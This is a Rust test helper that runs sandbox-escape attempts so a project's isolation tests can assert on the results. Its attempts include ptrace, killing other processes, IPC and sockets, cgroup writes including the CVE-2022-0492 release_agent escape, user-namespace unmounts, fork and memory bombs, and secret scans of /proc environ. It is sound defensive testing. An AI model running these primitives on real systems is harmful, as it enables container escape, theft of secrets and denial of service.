//! Hostile payload for the sandbox attack tests (tests/sandbox_attacks.rs): one small program
//! that makes the raw system calls an attacker would, so the tests need no tool the cgroup-v2
//! test VM lacks (no python, perl, gcc or strace there). It is never part of the product.
//!
//! Every attempt prints one line: `SUCCEEDED <what>` when the kernel let it through, or
//! `FAILED <what> <errno name>` when it did not; the tests assert on those lines. Subcommands
//! that create a victim object print `CREATED <what>`. Exit status: 0 when it ran (whatever
//! the attempts gave), 2 on a usage error.
//!
//! ```text
//! attack ptrace PID                  PTRACE_ATTACH then PTRACE_SEIZE on PID
//! attack kill PID                    kill(PID, 0) and kill(PID, SIGKILL)
//! attack ns-spawn PID UID GID SECS   (root, outside) start a process as UID:GID in the pid
//!                                    namespace of PID, print `SPAWNED <its pid there>`, sleep
//! attack ipc-create NAME KEY         POSIX shm + mqueue NAME, SysV sem + msg KEY, all mode 0666
//! attack ipc-open NAME KEY           open the four objects above
//! attack ipc-remove NAME KEY         remove them again (cleanup)
//! attack abstract-listen NAME SECS   listen on the abstract unix socket NAME, accept for SECS
//! attack abstract-connect NAME       connect to it
//! attack unix-listen PATH SECS       listen on the filesystem unix socket PATH (mode 0777)
//! attack unix-connect PATH           connect to it
//! attack read FILE                   read a file
//! attack write FILE VALUE            write VALUE into an existing file (no O_CREAT)
//! attack cgroup-escape               write to its own and its parent's cgroup files
//! attack setuid UID                  print the effective uid, then setresuid(UID, UID, UID)
//! attack forkbomb                    fork forever (every process keeps forking)
//! attack membomb                     allocate and touch memory forever
//! attack fill PATH BYTES             write PATH in 1 MiB blocks until BYTES or an error
//! attack key-add DESC VALUE         add a "user" key to its session keyring
//! attack key-read DESC               find a "user" key DESC from its session keyring, read it
//! attack userns-peek PATH..        in a new user + mount namespace, unmount each PATH and list it
//! attack userns-cgroup DIR          in new user + mount + cgroup namespaces, mount cgroupfs on
//!                                    DIR and write limits and release_agent (CVE-2022-0492)
//! attack environ-scan SECRET [PID..] read /proc/*/environ and /proc/PID/environ, look for SECRET
//! ```

use std::ffi::CString;
use std::io::{Read, Write};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
use std::time::{Duration, Instant};

fn errno_name(e: std::io::Error) -> String {
    match e.raw_os_error() {
        Some(n) => format!("{:?}", nix::errno::Errno::from_raw(n)),
        None => e.to_string(),
    }
}

/// Prints the result line of one attempt.
fn report<T>(what: &str, r: Result<T, std::io::Error>) -> Option<T> {
    match r {
        Ok(v) => {
            println!("SUCCEEDED {what}");
            Some(v)
        }
        Err(e) => {
            println!("FAILED {what} {}", errno_name(e));
            None
        }
    }
}

/// Converts a -1 return of a libc call into the errno.
fn check(rc: libc::c_long) -> Result<libc::c_long, std::io::Error> {
    if rc == -1 {
        Err(std::io::Error::last_os_error())
    } else {
        Ok(rc)
    }
}

fn usage() -> ! {
    eprintln!("usage: see the header of examples/attack.rs");
    std::process::exit(2)
}

fn arg(args: &[String], i: usize) -> &str {
    args.get(i).map(String::as_str).unwrap_or_else(|| usage())
}

fn num<T: std::str::FromStr>(s: &str) -> T {
    s.parse().unwrap_or_else(|_| usage())
}

fn ptrace(pid: i32) {
    // SAFETY: ptrace with a pid and null addr/data only asks the kernel for an attachment;
    // it touches no memory of ours.
    let r = check(unsafe {
        libc::ptrace(
            libc::PTRACE_ATTACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    });
    if report(&format!("ptrace-attach {pid}"), r).is_some() {
        let mut status = 0;
        // SAFETY: status is a valid, writable c_int for the whole call.
        unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
        // SAFETY: as above; detaching a tracee we attached to and that is now stopped.
        unsafe {
            libc::ptrace(
                libc::PTRACE_DETACH,
                pid,
                std::ptr::null_mut::<libc::c_void>(),
                std::ptr::null_mut::<libc::c_void>(),
            )
        };
    }
    // SAFETY: as for PTRACE_ATTACH; SEIZE does not stop the tracee.
    let r = check(unsafe {
        libc::ptrace(
            libc::PTRACE_SEIZE,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    });
    report(&format!("ptrace-seize {pid}"), r);
}

fn kill(pid: i32) {
    // SAFETY: kill takes plain integers.
    let r = check(unsafe { libc::kill(pid, 0) } as libc::c_long);
    report(&format!("kill-0 {pid}"), r);
    // SAFETY: as above.
    let r = check(unsafe { libc::kill(pid, libc::SIGKILL) } as libc::c_long);
    report(&format!("kill-9 {pid}"), r);
}

fn cstr(s: &str) -> CString {
    CString::new(s).unwrap_or_else(|_| usage())
}

fn ipc_create(name: &str, key: libc::key_t) {
    let shm = cstr(&format!("/{name}"));
    // SAFETY: shm is a valid NUL-terminated string; the returned fd is owned below.
    let fd = check(
        unsafe { libc::shm_open(shm.as_ptr(), libc::O_CREAT | libc::O_RDWR, 0o666) }
            as libc::c_long,
    );
    if let Some(fd) = report("create posix-shm", fd) {
        // SAFETY: fd was just returned by shm_open and is closed only here.
        unsafe {
            libc::fchmod(fd as i32, 0o666);
            libc::ftruncate(fd as i32, 4096);
            libc::close(fd as i32);
        }
    }
    let mq = cstr(&format!("/{name}"));
    // SAFETY: mq is NUL-terminated; a null attr asks for the default queue attributes.
    let q = check(unsafe {
        libc::mq_open(
            mq.as_ptr(),
            libc::O_CREAT | libc::O_RDWR,
            0o666 as libc::mode_t,
            std::ptr::null_mut::<libc::mq_attr>(),
        )
    } as libc::c_long);
    if let Some(q) = report("create posix-mq", q) {
        // SAFETY: q is the descriptor mq_open just returned.
        unsafe { libc::mq_close(q as libc::mqd_t) };
    }
    // SAFETY: semget/msgget take plain integers.
    let r = check(unsafe { libc::semget(key, 1, libc::IPC_CREAT | 0o666) } as libc::c_long);
    report("create sysv-sem", r);
    // SAFETY: as above.
    let r = check(unsafe { libc::msgget(key, libc::IPC_CREAT | 0o666) } as libc::c_long);
    report("create sysv-msg", r);
}

fn ipc_open(name: &str, key: libc::key_t) {
    let shm = cstr(&format!("/{name}"));
    // SAFETY: shm is a valid NUL-terminated string.
    let fd = check(unsafe { libc::shm_open(shm.as_ptr(), libc::O_RDWR, 0) } as libc::c_long);
    if let Some(fd) = report("open posix-shm", fd) {
        // SAFETY: fd was just returned by shm_open.
        unsafe { libc::close(fd as i32) };
    }
    let r = std::fs::metadata(format!("/dev/shm/{name}"));
    report("see /dev/shm entry", r);
    let mq = cstr(&format!("/{name}"));
    // SAFETY: mq is NUL-terminated; without O_CREAT no further argument is read.
    let q = check(unsafe { libc::mq_open(mq.as_ptr(), libc::O_RDWR) } as libc::c_long);
    if let Some(q) = report("open posix-mq", q) {
        // SAFETY: q is the descriptor mq_open just returned.
        unsafe { libc::mq_close(q as libc::mqd_t) };
    }
    // SAFETY: semget/msgget take plain integers.
    let r = check(unsafe { libc::semget(key, 0, 0) } as libc::c_long);
    report("open sysv-sem", r);
    // SAFETY: as above.
    let r = check(unsafe { libc::msgget(key, 0) } as libc::c_long);
    report("open sysv-msg", r);
}

fn ipc_remove(name: &str, key: libc::key_t) {
    let n = cstr(&format!("/{name}"));
    // SAFETY: n is a valid NUL-terminated string; the others take plain integers.
    unsafe {
        libc::shm_unlink(n.as_ptr());
        libc::mq_unlink(n.as_ptr());
        let s = libc::semget(key, 0, 0);
        if s >= 0 {
            libc::semctl(s, 0, libc::IPC_RMID);
        }
        let m = libc::msgget(key, 0);
        if m >= 0 {
            libc::msgctl(m, libc::IPC_RMID, std::ptr::null_mut());
        }
    }
}

/// Accepts connections until `secs` have passed (non-blocking accept, polled).
fn serve(l: UnixListener, secs: u64) {
    l.set_nonblocking(true).unwrap();
    let end = Instant::now() + Duration::from_secs(secs);
    while Instant::now() < end {
        if let Ok((mut s, _)) = l.accept() {
            let _ = s.write_all(b"hello\n");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn connect(what: &str, r: Result<UnixStream, std::io::Error>) {
    let r = r.and_then(|mut s| {
        let mut b = [0u8; 6];
        s.set_read_timeout(Some(Duration::from_secs(2)))?;
        s.read_exact(&mut b).map(|_| ())
    });
    report(what, r);
}

fn cgroup_escape() {
    let me = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    const FILES: &[(&str, &str)] = &[
        ("memory.limit_in_bytes", "-1"),
        ("memory.memsw.limit_in_bytes", "-1"),
        ("memory.max", "max"),
        ("memory.swap.max", "max"),
        ("memory.high", "max"),
        ("pids.max", "max"),
        ("cpu.cfs_quota_us", "-1"),
        ("cpu.max", "max"),
        ("freezer.state", "FROZEN"),
        ("cgroup.subtree_control", "+memory"),
        ("cgroup.procs", "0"),
        ("tasks", "0"),
    ];
    for line in me.lines() {
        let mut it = line.splitn(3, ':');
        let (Some(_), Some(ctrl), Some(path)) = (it.next(), it.next(), it.next()) else {
            continue;
        };
        let base = if ctrl.is_empty() {
            std::path::PathBuf::from("/sys/fs/cgroup")
        } else {
            std::path::PathBuf::from("/sys/fs/cgroup").join(ctrl.trim_start_matches("name="))
        };
        let own = base.join(path.trim_start_matches('/'));
        if !own.is_dir() {
            println!("MISSING {}", own.display());
            continue;
        }
        let parent = own.parent().unwrap().to_owned();
        for dir in [&own, &parent, &base] {
            for (f, v) in FILES {
                let p = dir.join(f);
                if !p.exists() {
                    continue;
                }
                let r = std::fs::OpenOptions::new()
                    .write(true)
                    .open(&p)
                    .and_then(|mut fh| fh.write_all(v.as_bytes()));
                report(&format!("write {} {v}", p.display()), r);
            }
        }
        let r = std::fs::create_dir(own.join("escape"));
        report(&format!("mkdir {}/escape", own.display()), r);
    }
    let after = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    for l in after.lines() {
        println!("CGROUP {l}");
    }
}

fn setuid(uid: u32) {
    // SAFETY: the id getters take no arguments and cannot fail.
    let (r, e) = unsafe { (libc::getuid(), libc::geteuid()) };
    println!("UIDS {r} {e}");
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    for l in status
        .lines()
        .filter(|l| l.starts_with("CapPrm") || l.starts_with("CapEff"))
    {
        println!("{l}");
    }
    // SAFETY: setresuid takes plain integers.
    let rc = check(unsafe { libc::setresuid(uid, uid, uid) } as libc::c_long);
    report(&format!("setresuid {uid}"), rc);
}

fn forkbomb() -> ! {
    let mut failures = 0u64;
    loop {
        // SAFETY: this program is single-threaded, so the child may go on running Rust code.
        if unsafe { libc::fork() } == -1 {
            failures += 1;
            if failures == 1 {
                println!(
                    "FORK-FAILED {}",
                    errno_name(std::io::Error::last_os_error())
                );
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    }
}

fn membomb() -> ! {
    let mut v: Vec<Vec<u8>> = Vec::new();
    loop {
        v.push(vec![1u8; 1 << 20]);
    }
}

fn fill(path: &str, bytes: u64) {
    let block = vec![0x5au8; 1 << 20];
    let mut written = 0u64;
    let r = std::fs::File::create(path).and_then(|mut f| {
        while written < bytes {
            f.write_all(&block)?;
            written += block.len() as u64;
        }
        f.sync_all()
    });
    println!("WROTE {written}");
    report(&format!("fill {path}"), r);
}

fn environ_scan(secret: &str, pids: &[String]) {
    let mut seen = 0;
    if let Ok(rd) = std::fs::read_dir("/proc") {
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !name.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            seen += 1;
            if let Ok(env) = std::fs::read(format!("/proc/{name}/environ")) {
                if String::from_utf8_lossy(&env).contains(secret) {
                    println!("SUCCEEDED secret in /proc/{name}/environ");
                }
            }
        }
    }
    println!("PROCS {seen}");
    for p in pids {
        let r = std::fs::read(format!("/proc/{p}/environ"));
        report(&format!("read /proc/{p}/environ"), r);
    }
}

/// The session keyring every process inherits across fork and exec (man 7 keyrings).
const SESSION: libc::c_long = libc::KEY_SPEC_SESSION_KEYRING as libc::c_long;

fn key_add(desc: &str, value: &str) {
    let (t, d) = (cstr("user"), cstr(desc));
    // SAFETY: add_key reads two NUL-terminated strings and value.len() bytes of value.
    let r = check(unsafe {
        libc::syscall(
            libc::SYS_add_key,
            t.as_ptr(),
            d.as_ptr(),
            value.as_ptr(),
            value.len(),
            SESSION,
        )
    });
    report(&format!("key-add {desc}"), r);
}

fn key_read(desc: &str) {
    let (t, d) = (cstr("user"), cstr(desc));
    // SAFETY: KEYCTL_SEARCH reads two NUL-terminated strings.
    let r = check(unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            libc::KEYCTL_SEARCH,
            SESSION,
            t.as_ptr(),
            d.as_ptr(),
            0,
        )
    });
    let Some(id) = report(&format!("key-search {desc}"), r) else {
        return;
    };
    let mut buf = vec![0u8; 4096];
    // SAFETY: KEYCTL_READ writes at most buf.len() bytes into buf.
    let r = check(unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            libc::KEYCTL_READ,
            id,
            buf.as_mut_ptr(),
            buf.len(),
        )
    });
    if let Some(n) = report(&format!("key-read {desc}"), r) {
        println!(
            "KEY {}",
            String::from_utf8_lossy(&buf[..(n as usize).min(buf.len())])
        );
    }
}

/// Becomes root of a new user namespace with its own mount namespace (possible whenever
/// unprivileged user namespaces are), then tries to unmount the sandbox's covering mounts to
/// look underneath: the host's /tmp, the other payloads' scratch directories.
fn userns_peek(paths: &[String]) {
    if !userns_root(0) {
        return;
    }
    for p in paths {
        let c = cstr(p);
        // SAFETY: c is NUL-terminated; MNT_DETACH is a plain flag.
        let r = check(unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) } as libc::c_long);
        report(&format!("umount {p}"), r);
        if let Ok(rd) = std::fs::read_dir(p) {
            for e in rd.flatten() {
                println!("ENTRY {p}/{}", e.file_name().to_string_lossy());
            }
        }
    }
}

/// Root of new user, mount and cgroup namespaces (root mapped to the caller).
fn userns_root(extra: libc::c_int) -> bool {
    // SAFETY: the id getters take no arguments and cannot fail.
    let (uid, gid) = unsafe { (libc::getuid(), libc::getgid()) };
    // SAFETY: unshare takes flags only; this program is single-threaded, as CLONE_NEWUSER needs.
    let r = check(
        unsafe { libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS | extra) } as libc::c_long,
    );
    if report("unshare user+mount namespace", r).is_none() {
        return false;
    }
    let maps = std::fs::write("/proc/self/setgroups", "deny")
        .and_then(|_| std::fs::write("/proc/self/uid_map", format!("0 {uid} 1")))
        .and_then(|_| std::fs::write("/proc/self/gid_map", format!("0 {gid} 1")));
    report("map root in the user namespace", maps).is_some()
}

/// The classic cgroup escapes from a user namespace: mount a cgroup hierarchy of one's own
/// and write its limits or the v1 `release_agent` (run as root by the kernel on release).
fn userns_cgroup(dir: &str) {
    if !userns_root(libc::CLONE_NEWCGROUP) {
        return;
    }
    let _ = std::fs::create_dir_all(dir);
    const FILES: &[(&str, &str)] = &[
        ("release_agent", "/tmp/agent"),
        ("notify_on_release", "1"),
        ("memory.limit_in_bytes", "-1"),
        ("memory.memsw.limit_in_bytes", "-1"),
        ("memory.max", "max"),
        ("memory.swap.max", "max"),
        ("pids.max", "max"),
        ("cgroup.subtree_control", "+pids"),
    ];
    let d = cstr(dir);
    for (fs, opts) in [
        ("cgroup2", ""),
        ("cgroup", "memory"),
        ("cgroup", "pids"),
        ("cgroup", "none,name=systemd"),
    ] {
        let (t, o) = (cstr(fs), cstr(opts));
        // SAFETY: every pointer is a NUL-terminated string that outlives the call.
        let rc = unsafe { libc::mount(t.as_ptr(), d.as_ptr(), t.as_ptr(), 0, o.as_ptr().cast()) };
        if rc != 0 {
            println!(
                "NOMOUNT {fs} {opts} {}",
                errno_name(std::io::Error::last_os_error())
            );
            continue;
        }
        println!("MOUNTED {fs} {opts}");
        for (f, v) in FILES {
            let p = std::path::Path::new(dir).join(f);
            if !p.exists() {
                continue;
            }
            let r = std::fs::OpenOptions::new()
                .write(true)
                .open(&p)
                .and_then(|mut fh| fh.write_all(v.as_bytes()));
            report(&format!("write {fs}:{opts}/{f} {v}"), r);
        }
        // SAFETY: d is NUL-terminated.
        unsafe { libc::umount2(d.as_ptr(), libc::MNT_DETACH) };
    }
}

/// A process that is in a payload's pid namespace but not in its sandbox (as an admin's
/// `nsenter` would make): setns to PID's pid namespace, fork (the child is the one inside),
/// drop to UID:GID, report the pid the payload sees, sleep. The parent waits for it.
fn ns_spawn(pid: i32, uid: u32, gid: u32, secs: u64) {
    use std::os::fd::AsFd;
    let ns = std::fs::File::open(format!("/proc/{pid}/ns/pid")).unwrap_or_else(|e| {
        eprintln!("ns-spawn: /proc/{pid}/ns/pid: {e}");
        std::process::exit(1)
    });
    nix::sched::setns(ns.as_fd(), nix::sched::CloneFlags::CLONE_NEWPID).unwrap();
    // SAFETY: this program is single-threaded; the child only makes system calls and prints.
    match unsafe { nix::unistd::fork() }.unwrap() {
        nix::unistd::ForkResult::Child => {
            let g = nix::unistd::Gid::from_raw(gid);
            let u = nix::unistd::Uid::from_raw(uid);
            nix::unistd::setgroups(&[g]).unwrap();
            nix::unistd::setresgid(g, g, g).unwrap();
            nix::unistd::setresuid(u, u, u).unwrap();
            println!("SPAWNED {}", std::process::id());
            let _ = std::io::stdout().flush();
            std::thread::sleep(Duration::from_secs(secs));
            std::process::exit(0)
        }
        nix::unistd::ForkResult::Parent { child } => {
            let _ = nix::sys::wait::waitpid(child, None);
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    match arg(&args, 1) {
        "ptrace" => ptrace(num(arg(&args, 2))),
        "kill" => kill(num(arg(&args, 2))),
        "ns-spawn" => ns_spawn(
            num(arg(&args, 2)),
            num(arg(&args, 3)),
            num(arg(&args, 4)),
            num(arg(&args, 5)),
        ),
        "ipc-create" => ipc_create(arg(&args, 2), num(arg(&args, 3))),
        "ipc-open" => ipc_open(arg(&args, 2), num(arg(&args, 3))),
        "ipc-remove" => ipc_remove(arg(&args, 2), num(arg(&args, 3))),
        "abstract-listen" => {
            let a = SocketAddr::from_abstract_name(arg(&args, 2).as_bytes()).unwrap();
            if let Some(l) = report("listen abstract", UnixListener::bind_addr(&a)) {
                serve(l, num(arg(&args, 3)));
            }
        }
        "abstract-connect" => {
            let a = SocketAddr::from_abstract_name(arg(&args, 2).as_bytes()).unwrap();
            connect("connect abstract", UnixStream::connect_addr(&a));
        }
        "unix-listen" => {
            let p = arg(&args, 2);
            if let Some(l) = report("listen unix", UnixListener::bind(p)) {
                let _ = std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777));
                serve(l, num(arg(&args, 3)));
            }
        }
        "unix-connect" => connect("connect unix", UnixStream::connect(arg(&args, 2))),
        "read" => {
            let p = arg(&args, 2);
            report(&format!("read {p}"), std::fs::read(p));
        }
        "write" => {
            let p = arg(&args, 2);
            let r = std::fs::OpenOptions::new()
                .write(true)
                .open(p)
                .and_then(|mut f| f.write_all(arg(&args, 3).as_bytes()));
            report(&format!("write {p}"), r);
        }
        "cgroup-escape" => cgroup_escape(),
        "setuid" => setuid(num(arg(&args, 2))),
        "forkbomb" => forkbomb(),
        "membomb" => membomb(),
        "fill" => fill(arg(&args, 2), num(arg(&args, 3))),
        "key-add" => key_add(arg(&args, 2), arg(&args, 3)),
        "key-read" => key_read(arg(&args, 2)),
        "userns-peek" => userns_peek(&args[2..]),
        "userns-cgroup" => userns_cgroup(arg(&args, 2)),
        "environ-scan" => environ_scan(arg(&args, 2), &args[3..]),
        _ => usage(),
    }
}
